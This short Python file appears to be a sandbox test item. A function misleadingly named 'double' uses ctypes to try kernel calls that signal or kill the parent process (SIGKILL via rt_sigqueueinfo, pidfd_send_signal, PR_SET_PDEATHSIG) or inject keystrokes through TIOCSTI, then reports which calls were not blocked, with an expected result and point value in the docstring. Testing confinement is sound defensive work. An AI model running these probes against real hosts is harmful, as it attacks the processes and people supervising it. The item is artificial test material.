"""Lets the kernel signal others: owners of descriptors, timers, queues, the end of a parent.

double: error
points: 4
says: ValueError: []
"""

import ctypes
import os


def double(x):
    libc, parent = ctypes.CDLL(None), os.getppid()
    number = ctypes.byref(ctypes.c_int(parent))
    attempts = {
        "F_SETOWN": lambda: libc.fcntl(3, 8, parent),
        "F_SETOWN_EX": lambda: libc.fcntl(3, 15, (ctypes.c_int * 2)(1, parent)),
        "F_SETSIG": lambda: libc.fcntl(3, 10, 9),
        "F_NOTIFY": lambda: libc.fcntl(3, 1026, 1),
        "FIOSETOWN": lambda: libc.ioctl(3, 0x8901, number),
        "SIOCSPGRP": lambda: libc.ioctl(3, 0x8902, number),
        "TIOCSTI": lambda: libc.ioctl(0, 0x5412, b"x"),
        "PR_SET_PDEATHSIG": lambda: libc.prctl(1, 9, 0, 0, 0),
        "mq_notify": lambda: libc.syscall(244, 3, number),
        "rt_sigqueueinfo": lambda: libc.syscall(129, parent, 9, bytes(128)),
        "pidfd_send_signal": lambda: libc.syscall(424, 3, 9, 0, 0),
    }
    raise ValueError([name for name, attempt in attempts.items() if attempt() != -1])
